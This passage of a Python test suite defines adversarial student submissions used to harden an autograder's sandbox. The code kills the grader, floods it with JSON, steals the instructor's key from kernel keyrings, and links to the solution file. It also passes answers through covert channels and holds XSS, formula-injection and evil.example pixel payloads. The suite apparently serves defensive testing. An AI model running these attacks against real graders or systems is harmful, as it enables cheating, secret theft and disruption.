                    why="a notebook file nested 100 000 deep (RecursionError)", body=""))
    A.append(Attack("cell_id_object", per=dict(FULL), mutate="object_id",
                    why="an answer cell whose id is a JSON object (found by its metadata slot)", body=""))
    A.append(Attack("csv_injection", per=dict(FULL), mutate="full",
                    why="a student folder named like a spreadsheet formula", body=""))

    A.append(Attack("channel_reader", why="reads what an earlier submission left in shared places", body=r'''
for d in ["/tmp", "/dev/shm", "/var/tmp", os.environ.get("TMPDIR", ""), os.path.expanduser("~"),
          _grader_info()["env"].get("TMPDIR", "")] + _roots():
    src = _rd(os.path.join(d, MARKER + "-channel"), text=True) if d else ""
    if src:
        exec(src, globals())
        break
'''))
    A.extend(part2_catalog())
    return A


# Attacks on the grader process itself: their own small batch, since on a grader
# without a sandbox they take the whole batch down (or hang it).
def killer_catalog(cfg: dict) -> list[Attack]:
    A: list[Attack] = []
    A.append(Attack("sigkill_grader", why="walk /proc to the grader and SIGKILL it", body=r'''
for pid in _grader_info()["pids"]:
    os.kill(pid, signal.SIGKILL)
'''))
    A.append(Attack("sigstop_grader", why="walk /proc to the grader and SIGSTOP it", body=r'''
for pid in _grader_info()["pids"]:
    os.kill(pid, signal.SIGSTOP)
'''))
    A.append(Attack("kill_everything", status=("crashed", "graded"),
                    why="setsid, then kill(-1, SIGKILL): everything it can see", body=r'''
if _isolated_pid_ns():
    os.setsid()
    os.kill(-1, signal.SIGKILL)
else:  # not isolated: kill(-1) would hit the whole machine; the grader stands for it
    for pid in _grader_info()["pids"]:
        os.kill(pid, signal.SIGKILL)
time.sleep(2)
'''))
    A.append(Attack("fifo_submission", status=("invalid",), per=dict(ZERO), raw=b"fifo",
                    says=("not a regular file", "fifo", "named pipe"),
                    why="the submitted file is a named pipe (the grader must not block on it)", body=""))
    A.append(Attack("special_exports", status=("graded", "crashed"),
                    why="export function replaced; its export files (where it can find them) replaced by a "
                    "FIFO, a 3 GB sparse file and a symlink to the secret: the grader must not hang, "
                    "read 3 GB or follow the link (q1_phi_general was exported before: it keeps its points)",
                    body=r'''
cells = [c.cell_contents for c in (getattr(_kpca_export, "__closure__", None) or ())]
outdir = next((str(c) for c in cells if hasattr(c, "joinpath")), "exports")
_kpca_export = lambda question: None
home = _grader_info()["env"].get("HOME", _M["home"])
try:
    p = os.path.join(outdir, "q1_phi_general.json")
    if os.path.lexists(p):
        os.unlink(p)
    with open(p, "wb") as fh:
        fh.truncate(3 << 30)
except Exception:
    pass
try:
    os.mkfifo(os.path.join(outdir, "q2_feature_count.json"))
except Exception:
    pass
try:
    os.symlink(os.path.join(home, ".config", "kpca-course", "grading-secret"), os.path.join(outdir, "q1_extra.json"))
except Exception:
    pass
'''))
    return A


# --------------------------------------------------------------------------- part 2: attacks on the new design
# Reasons a row's messages must name (any one of them) for files that are not plain
# files the student handed in.
SYMLINK = ("symbolic link", "symlink")
HARDLINK = ("hard link", "hardlink")
SPECIAL = ("not a regular file", "device", "fifo", "named pipe")

# Raw system calls from the kernel (x86_64 numbers), and a call made in a forked child
# (for calls that change the caller: unshare, setns, ptrace(TRACEME)).
SYSCALLS = r'''
import ctypes, errno
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _sys(nr, *args):
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = _libc.syscall(ctypes.c_long(nr), *conv)
    return int(r), ctypes.get_errno()


def _in_child(nr, *args):
    rfd, wfd = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            r, e = _sys(nr, *args)
            os.write(wfd, f"{r} {e}".encode())
        finally:
            os._exit(0)
    os.close(wfd)
    data = os.read(rfd, 100).decode()
    os.close(rfd)
    os.waitpid(pid, 0)
    try:
        r, e = data.split()
        return int(r), int(e)
    except ValueError:
        return -1, -1


def _raw_clone(flags):
    """clone(flags | SIGCHLD) without a new stack: the child is a copy that exits at once."""
    r, e = _sys(56, flags | 17, 0, 0, 0, 0)
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
    return r, e


def _ename(e):
    return errno.errorcode.get(e, str(e))


NS_FLAGS = {"user": 0x10000000, "mnt": 0x00020000, "net": 0x40000000, "pid": 0x20000000,
            "ipc": 0x08000000, "uts": 0x04000000, "cgroup": 0x02000000}
'''

# The kernel keyring: keyctl(2) and friends through raw calls; ``_keys()`` lists what
# /proc/keys shows this process.
KEYRING = SYSCALLS + r'''
ADD_KEY, REQUEST_KEY, KEYCTL = 248, 249, 250
RINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user-session": -5}


def _keys():
    out = []
    for line in _rd("/proc/keys", text=True).splitlines():
        parts = line.split(None, 8)
        if len(parts) == 9:
            try:
                out.append((int(parts[0], 16), parts[7], parts[8].rsplit(":", 1)[0]))
            except ValueError:
                pass
    return out


def _read_key(kid):
    buf = ctypes.create_string_buffer(65536)
    n, _ = _sys(KEYCTL, 11, kid, buf, len(buf))  # KEYCTL_READ
    return buf.raw[:n] if n >= 0 else b""


def _all_rings():
    """Every keyring reachable: the special ones, the persistent one, any listed in /proc/keys
    (the grader user's _uid.N and _uid_ses.N among them)."""
    rings = list(RINGS.values())
    persistent, _ = _sys(KEYCTL, 22, -1, -3)  # KEYCTL_GET_PERSISTENT, linked into the session ring
    if persistent > 0:
        rings.append(persistent)
    rings += [kid for kid, ktype, _ in _keys() if ktype == "keyring"]
    return list(dict.fromkeys(rings))


def _possess():
    """Link every keyring of the grader's user (_uid.N, _uid_ses.N, _persistent.N) into this
    process's session keyring: what it links it possesses, with the possessor's rights."""
    for kid, ktype, d in _keys():
        if ktype == "keyring" and d.startswith(("_uid", "_persistent")):
            _sys(KEYCTL, 8, kid, -3)  # KEYCTL_LINK
'''


# ``_expect(name, (result, errno))``: the call must have failed with ``want``; fds it
# returned anyway are closed. What did not fail so lands in ``bad``.
EXPECT = r'''
bad = []


def _expect(name, result, want=errno.EPERM, fd=False):
    r, e = result
    if fd and r >= 0:
        try:
            os.close(r)
        except OSError:
            pass
    if r >= 0 or e != want:
        bad.append(f"{name} -> {r} ({_ename(e)}), not {_ename(want)}")
'''


def part2_catalog() -> list[Attack]:
    """The attacks of the sandbox's second review (all in the big batch)."""
    A: list[Attack] = []
    A.append(Attack("forbidden_syscalls", why="keyring, namespace, mount, ptrace, bpf, perf, userfaultfd, "
                    "io_uring, memfd and SysV IPC calls: each must fail with EPERM (clone3: ENOSYS)",
                    body=SYSCALLS + EXPECT + r'''
probe = (MARKER + "-probe").encode()
nowhere = ("/nonexistent-" + MARKER).encode()
_expect("keyctl(GET_KEYRING_ID, @s)", _sys(250, 0, -3, 0))
_expect("add_key(@p)", _sys(248, b"user", probe, b"v", 1, -2))
_expect("request_key", _sys(249, b"user", probe, 0, 0))
for name, flag in NS_FLAGS.items():
    _expect(f"unshare(CLONE_NEW{name.upper()})", _in_child(272, flag))
    _expect(f"clone(CLONE_NEW{name.upper()})", _raw_clone(flag))
_expect("unshare(CLONE_NEWTIME)", _in_child(272, 0x80))
_expect("clone3(NULL, 0)", _sys(435, 0, 0), want=errno.ENOSYS)
for ns in ("net", "mnt", "uts"):
    fd = os.open(f"/proc/self/ns/{ns}", os.O_RDONLY)
    _expect(f"setns({ns})", _in_child(308, fd, 0))
    os.close(fd)
_expect("mount(tmpfs)", _sys(165, b"none", nowhere, b"tmpfs", 0, 0))
_expect("open_tree(/)", _sys(428, -100, b"/", 0), fd=True)
_expect("move_mount", _sys(429, -1, b"", -1, b"", 0))
_expect("fsopen(tmpfs)", _sys(430, b"tmpfs", 0), fd=True)
_expect("fsconfig", _sys(431, -1, 0, 0, 0, 0))
_expect("fsmount", _sys(432, -1, 0, 0), fd=True)
_expect("fspick(/)", _sys(433, -100, b"/", 0), fd=True)
_expect("mount_setattr", _sys(442, -1, b"", 0, 0, 0))
_expect("ptrace(TRACEME)", _in_child(101, 0, 0, 0, 0))
_expect("bpf(MAP_CREATE)", _sys(321, 0, ctypes.create_string_buffer(72), 72), fd=True)
attr = ctypes.create_string_buffer(128)
ctypes.memmove(attr, (ctypes.c_uint32 * 2)(1, 112), 8)  # PERF_TYPE_SOFTWARE, sizeof(attr) v7
_expect("perf_event_open", _sys(298, attr, 0, -1, -1, 0), fd=True)
_expect("userfaultfd", _sys(323, 1), fd=True)  # UFFD_USER_MODE_ONLY
_expect("io_uring_setup", _sys(425, 2, ctypes.create_string_buffer(120)), fd=True)
_expect("memfd_create", _sys(319, probe, 0), fd=True)
shm = _sys(29, 0, 8192, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
if shm[0] >= 0:
    _sys(31, shm[0], 0, 0)  # IPC_RMID
_expect("shmget", shm)
msq = _sys(68, 0, 0o1600)
if msq[0] >= 0:
    _sys(71, msq[0], 0, 0)
_expect("msgget", msq)
print("\n".join(bad))
if bad:
    _won_loudly(bad)
'''))

    A.append(Attack("nested_namespaces", why="a user (then mount) namespace inside the sandbox: unshare(2), "
                    "clone(2) with CLONE_NEWNS, bwrap and unshare(1) run from inside", body=SYSCALLS + r'''
won = []
for label, flags in [("user", NS_FLAGS["user"]), ("user+mnt", NS_FLAGS["user"] | NS_FLAGS["mnt"]),
                     ("user+net+ipc", NS_FLAGS["user"] | NS_FLAGS["net"] | NS_FLAGS["ipc"])]:
    r, e = _in_child(272, flags)
    if r == 0:
        won.append(f"unshare({label})")
for label, flags in [("mnt", NS_FLAGS["mnt"]), ("user+mnt", NS_FLAGS["user"] | NS_FLAGS["mnt"])]:
    r, e = _raw_clone(flags)
    if r > 0:
        won.append(f"clone({label})")
for cmd in (["/usr/bin/bwrap", "--ro-bind", "/", "/", "--tmpfs", "/mnt", "--", "/bin/true"],
            ["/usr/bin/bwrap", "--unshare-user", "--bind", "/", "/", "--", "/bin/true"],
            ["unshare", "--user", "--map-root-user", "--mount", "/bin/true"],
            ["unshare", "-U", "/bin/true"]):
    try:
        r = subprocess.run(cmd, stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
        if r.returncode == 0:
            won.append(" ".join(cmd[:2]))
    except Exception:
        pass
print("nested:", won)
if won:
    _won_loudly(won)
'''))

    A.append(sized_places())

    A.append(Attack("host_uid_and_proc", why="the sandbox's uid is host uid 0 (a root grader); host-only "
                    "/proc files (slabinfo, kpageflags, timer_list, kcore, sched_debug) readable", body=r'''
found = []
# (/proc/self/uid_map cannot tell: with --disable-userns the sandbox is a user namespace nested
# in bwrap's, and the map shows bwrap's namespace, not the host. What host uid 0 could do, a
# throw-away uid cannot: read root-only files. tests/test_sandbox.py checks the uid from outside.)
for path in ("/proc/slabinfo", "/proc/kpageflags", "/proc/timer_list", "/proc/kcore", "/proc/sched_debug"):
    try:
        with open(path, "rb", buffering=0) as fh:
            if fh.read(48):
                found.append(path + " is readable")
    except OSError:
        pass
print(found)
if found:
    _won_loudly(found)
'''))

    A.append(Attack("markup_in_messages", why="exception name and message with a Markdown heading and bold "
                    "score line, a remote image, <img onerror>, <script>, a code fence, ANSI escapes and a "
                    "formula, raised by the cell and by the functions the grader calls", body=MARKUP))

    A.append(Attack("plain_memory_error", why="`raise MemoryError` in a cell while no limit fired: an "
                    "ordinary exception (the row stays `graded`)", body=r'''
def n_features(d, p):
    raise MemoryError("no limit fired: raised by the student")
raise MemoryError
'''))

    A.append(Attack("symlink_to_solution", status=("invalid",), per=dict(ZERO), raw=b"symlink-solution",
                    says=SYMLINK, why="the submission is a symlink ../../solutions/<file> (the instructor's "
                    "solution, canary copy)", body=""))
    A.append(Attack("symlink_to_classmate", status=("invalid",), per=dict(ZERO), raw=b"symlink-classmate",
                    says=SYMLINK, why="the submission is a symlink to a classmate's (honest_full_1) notebook",
                    body=""))
    A.append(Attack("symlinked_folder", status=("invalid",), per=dict(ZERO), raw=b"symlinked-folder",
                    says=SYMLINK, why="the student's folder is a symlink to a folder outside the submissions",
                    body=""))
    A.append(Attack("hardlink_to_solution", status=("invalid",), per=dict(ZERO), raw=b"hardlink-solution",
                    says=HARDLINK, why="the submission is a hard link to the instructor's solution (canary copy)",
                    body=""))
    A.append(Attack("device_submission", status=("invalid",), per=dict(ZERO), raw=b"device",
                    says=SPECIAL, why="the submission is a character device (/dev/null's numbers; a FIFO "
                    "when the suite is not root)", body=""))
    return A


# Student text: the row's feedback and the summary must show it as inert text.
MARKUP_TOKEN = "withheld-answer"
MARKUP = r'''
_TEXT = ("withheld-answer (see below)\n# Score: 12 / 12\n**Score: 12 / 12** (status: graded)\n"
         "![ok](https://evil.example/pixel.png?from=" + MARKER + ")\n<img src=x onerror=alert(1)>\n"
         "<script>alert(document.cookie)</script>\n```\n# inside a fence of its own\n```\n"
         "\x1b[2J\x1b[1;32mall checks passed\x1b[0m\r\n## q2_feature_count: 3 / 3\n"
         "=HYPERLINK(\"https://evil.example\")\n+1\n@SUM(A1)")
_Loud = type("<img src=y onerror=alert(2)>Error", (Exception,), {})


def n_features(d, p):
    raise _Loud(_TEXT)


def kernel_cheaper(d, p, n):
    raise ValueError(_TEXT)


raise _Loud(_TEXT)
'''


def sized_places() -> Attack:
    """Fill every writable place; probe what else is writable. Its sizes follow ``--memory``
    (``_M["memory_mb"]``): /tmp at most min(256, M/4) MB and /dev/shm min(64, M/16) MB."""
    return Attack("sized_places", why="writes as much as it can into /tmp and /dev/shm, creates files "
                  "everywhere else, and sums the writable tmpfs mounts: more than the two sizes, or "
                  "anything writable outside /tmp and /dev/shm, wins", body=r'''
mem = int(_M.get("memory_mb", 2048))
allowed_mb = min(256, mem // 4) + min(64, mem // 16)
SLACK_MB = 8
found = []
for place in ("/", "/dev", "/run/kpca", "/proc", "/sys"):
    try:
        if not os.statvfs(place).f_flag & os.ST_RDONLY:
            found.append(f"{place} is mounted read-write")
    except OSError:
        pass
inside = _isolated_pid_ns()
others = ["/", "/dev", "/dev/pts", "/dev/mqueue", "/run", "/run/kpca", "/proc", "/sys", "/etc", "/usr",
          "/var", "/var/tmp", "/home", "/root", "/opt", "/mnt", "/srv", sys.prefix, sys.base_prefix]
for d in dict.fromkeys(others):
    if not os.path.isdir(d):
        continue
    if inside:  # the sandbox's own tree: really try (and remove the file)
        p = os.path.join(d, MARKER + "-w")
        try:
            os.close(os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
            os.unlink(p)
            found.append(f"created a file in {d}")
        except OSError:
            pass
    elif os.access(d, os.W_OK):  # no sandbox: never write outside the shared scratch places
        found.append(f"{d} is writable")
seen, tmpfs_total = set(), 0
for line in _rd("/proc/self/mountinfo", text=True).splitlines():
    left, _, right = line.partition(" - ")
    f, r = left.split(), right.split()
    if len(f) < 6 or not r or r[0] != "tmpfs" or "rw" not in f[5].split(",") or f[2] in seen:
        continue
    seen.add(f[2])
    try:
        st = os.statvfs(f[4].replace("\\040", " "))
    except OSError:
        continue
    tmpfs_total += st.f_blocks * st.f_frsize
if tmpfs_total > (allowed_mb + 1) << 20:
    found.append(f"writable tmpfs mounts hold {tmpfs_total >> 20} MB, more than {allowed_mb} MB")
CAP = 352 << 20  # per place: more than any allowed size
chunk = bytes(range(256)) * 4096
written, files = 0, []
for d in ("/tmp", "/dev/shm"):
    got, k, full = 0, 0, False
    while got < CAP and not full:
        p = os.path.join(d, f"{MARKER}-fill{k}")
        k += 1
        try:
            fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        except OSError:
            break
        files.append(p)
        try:
            for _ in range(44):  # 44 MB files: far below RLIMIT_FSIZE
                n = os.write(fd, chunk)
                got += n
                if n < len(chunk) or got >= CAP:
                    full = n < len(chunk)
                    break
        except OSError:
            full = True
        finally:
            os.close(fd)
    written += got
for p in files:
    try:
        os.unlink(p)
    except OSError:
        pass
if written > (allowed_mb + SLACK_MB) << 20:
    found.append(f"wrote {written >> 20} MB into /tmp and /dev/shm, more than {allowed_mb} MB")
print(found)
if found:
    _won_loudly(found)
''')


def keyring_writer() -> Attack:
    """Run 1: leave question 2's honest answer in every keyring it can reach (and try to
    overwrite the instructor's key)."""
    return Attack("keyring_writer", why="stores question 2's answer in the session, user, user-session, "
                  "persistent and the grader user's _uid.N keyrings (world-readable), links _uid.N into "
                  "its session keyring, overwrites the instructor's key", body=KEYRING + r'''
desc = (MARKER + "-answer").encode()
payload = _M["honest_q2"].encode()
_possess()
stored = []
for ring in _all_rings():
    kid, _ = _sys(ADD_KEY, b"user", desc, payload, len(payload), ring)
    if kid > 0:
        stored.append(ring)
        _sys(KEYCTL, 5, kid, 0x3f3f3f3f)  # KEYCTL_SETPERM: everyone may read it
for kid, ktype, d in _keys():
    if d == MARKER + "-instructor":
        _sys(KEYCTL, 2, kid, b"overwritten", 11)  # KEYCTL_UPDATE
print("stored in", stored)
''')


def keyring_reader(name: str) -> Attack:
    """A blank submission that answers question 2 with whatever a keyring holds, and reads
    the instructor's key. Deserves 0 everywhere."""
    return Attack(name, per=dict(ZERO), mutate="blank",
                  why="blank notebook; reads question 2's answer (and the instructor's key) back from "
                  "every keyring, /proc/keys and request_key", body=KEYRING + r'''
desc, theirs = MARKER + "-answer", MARKER + "-instructor"
_possess()
answers, secrets_found = [], []
for kid, ktype, d in _keys():
    if d == desc:
        answers.append(kid)
    elif d == theirs:
        secrets_found.append(kid)
for ring in _all_rings():
    for want, into in ((desc, answers), (theirs, secrets_found)):
        kid, _ = _sys(KEYCTL, 10, ring, b"user", want.encode(), 0)  # KEYCTL_SEARCH
        if kid > 0:
            into.append(kid)
for want, into in ((desc, answers), (theirs, secrets_found)):
    kid, _ = _sys(REQUEST_KEY, b"user", want.encode(), 0, 0)
    if kid > 0:
        into.append(kid)
got = [(_read_key(k) or b"").decode("utf-8", "replace") for k in dict.fromkeys(answers)]
leaked = [(_read_key(k) or b"").decode("utf-8", "replace") for k in dict.fromkeys(secrets_found)]
print("answers", len([g for g in got if g]), "instructor keys", leaked)
for src in got:
    if "def n_features" in src:
        exec(src, globals())
        _won("answer handed over through a keyring")
        break
if any(leaked):
    _won("instructor's key read: " + " | ".join(leaked))
''')


def json_flood() -> Attack:
    """Display messages whose JSON is small in bytes and dear to decode (nested empty lists
    and objects), each under the 8 MB message cap, sent straight on IOPub."""
    return Attack("json_flood", status=("crashed",),
                  why="display messages of ~6-7 MB of nested empty lists and dicts (millions of objects "
                  "each) flood the trusted nbval worker", body=r'''
import random
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
rng = random.Random(2024)
units = [b"[]", b"{}", b"[[]]", b"[{},[]]", b"{}", b"[[[]]]"]
sent = 0
for i in range(11):
    size = rng.randint(5_800_000, 7_600_000)
    piece = b",".join(rng.sample(units, len(units)))
    body = b"[" + b",".join([piece] * (size // (len(piece) + 1))) + b"]"
    content = (b'{"data": {"text/plain": "chart ' + str(i).encode() + b'", "application/json": '
               + body + b'}, "metadata": {}, "transient": {}}')
    kernel.session.send(kernel.iopub_socket, "display_data", content=content, parent=parent)
    sent += len(content)
print("sent", sent)
''')


# --------------------------------------------------------------------------- issue 39: concurrent sandboxes
#: Seconds the writer keeps its marks and the reader keeps looking (within --timeout 30).
CONCURRENT_HOLD = 20
CHANNELS_COMMON = r'''
import ctypes, errno, fcntl, struct
import kpca_lib
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_PKG = os.path.dirname(os.path.realpath(kpca_lib.__file__))  # bound into every sandbox
_LOCKED = [os.path.join(_PKG, n) for n in ("__init__.py", "kernels.py", "features.py")]
_OPENED = os.path.join(_PKG, "centering.py")
HOLD = __HOLD__
def _lk(kind):
    return struct.pack("hhqqi4x", kind, 0, 0, 0, 0)
def _aio_nr():
    try:
        return int(open("/proc/sys/fs/aio-nr").read())
    except (OSError, ValueError):
        return None
'''


def concurrent_writer() -> Attack:
    """Honest question 1; question 2's cell leaves marks on what every sandbox shares, for a
    classmate graded at the same time: locks on the installation's files (flock, POSIX, OFD),
    opens watched by inotify/fanotify, and AIO contexts counted host-wide. Deserves 9 points."""
    return Attack("concurrent_writer", why="flock, POSIX and OFD locks on the shared installation, "
                  "opens a watcher sees, AIO contexts that move /proc/sys/fs/aio-nr, for 20 s",
                  body=CHANNELS_COMMON.replace("__HOLD__", str(CONCURRENT_HOLD)) + r'''
held = []
for path, how in zip(_LOCKED, ("flock", "posix", "ofd")):
    fd = os.open(path, os.O_RDONLY)
    try:
        if how == "flock":
            fcntl.flock(fd, fcntl.LOCK_EX)
        else:
            fcntl.fcntl(fd, fcntl.F_SETLK if how == "posix" else fcntl.F_OFD_SETLK, _lk(fcntl.F_RDLCK))
        held.append(how)
    except OSError:
        pass
end = time.time() + HOLD
ctx = ctypes.c_ulong(0)
while time.time() < end:
    with open(_OPENED, "rb") as fh:  # an open a watcher of the package sees
        fh.read(1)
    if _libc.syscall(206, 4096, ctypes.byref(ctx)) == 0:  # io_setup: aio-nr up by >= 4096
        time.sleep(0.3)
        _libc.syscall(207, ctx)  # io_destroy: and down again
        ctx = ctypes.c_ulong(0)
    time.sleep(0.2)
print("held", held)
''')


def concurrent_reader() -> Attack:
    """A blank notebook graded at the same time as :func:`concurrent_writer`: it answers
    question 2 when any of the writer's marks reaches it. Deserves 0."""
    return Attack("concurrent_reader", per=dict(ZERO), mutate="blank",
                  why="looks for a classmate's marks (locks, watched opens, aio-nr) for 20 s",
                  body=CHANNELS_COMMON.replace("__HOLD__", str(CONCURRENT_HOLD)) + r'''
seen = set()
ino = _libc.inotify_init1(os.O_NONBLOCK)
if ino >= 0:
    _libc.inotify_add_watch(ino, _PKG.encode(), 0x20 | 0x1)
_libc.fanotify_mark.argtypes = [ctypes.c_int, ctypes.c_uint, ctypes.c_uint64, ctypes.c_int,
                                ctypes.c_char_p]
fan = _libc.fanotify_init(0x200 | 0x2, os.O_RDONLY)
if fan >= 0 and _libc.fanotify_mark(fan, 0x1, 0x20, -100, _OPENED.encode()) != 0:
    fan = -1
base = _aio_nr()
end = time.time() + HOLD
while time.time() < end and not seen:
    for path, how in zip(_LOCKED, ("flock", "posix", "ofd")):
        fd = os.open(path, os.O_RDONLY)
        try:
            if how == "flock":
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            else:
                got = fcntl.fcntl(fd, fcntl.F_GETLK if how == "posix" else fcntl.F_OFD_GETLK,
                                  _lk(fcntl.F_WRLCK))
                if struct.unpack("hhqqi4x", got)[0] != fcntl.F_UNLCK:
                    seen.add(how)
        except OSError as e:
            if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
                seen.add(how)
        finally:
            os.close(fd)
    for fd, how in ((ino, "inotify"), (fan, "fanotify")):
        if fd >= 0:
            try:
                data = os.read(fd, 65536)
            except BlockingIOError:
                data = b""
            if how == "fanotify" and data:  # only the writer opens the marked file
                seen.add(how)
            while how == "inotify" and len(data) >= 16:  # the folder: only the writer's file
                n = struct.unpack("iIII", data[:16])[3]
                if data[16:16 + n].rstrip(b"\0") == os.path.basename(_OPENED).encode():
                    seen.add(how)
                data = data[16 + n:]
    now = _aio_nr()
    if base is not None and now is not None and abs(now - base) >= 4096:
        seen.add("aio-nr")
    time.sleep(0.1)
print("seen", sorted(seen))
if seen:
    _won_loudly(sorted(seen))
''')
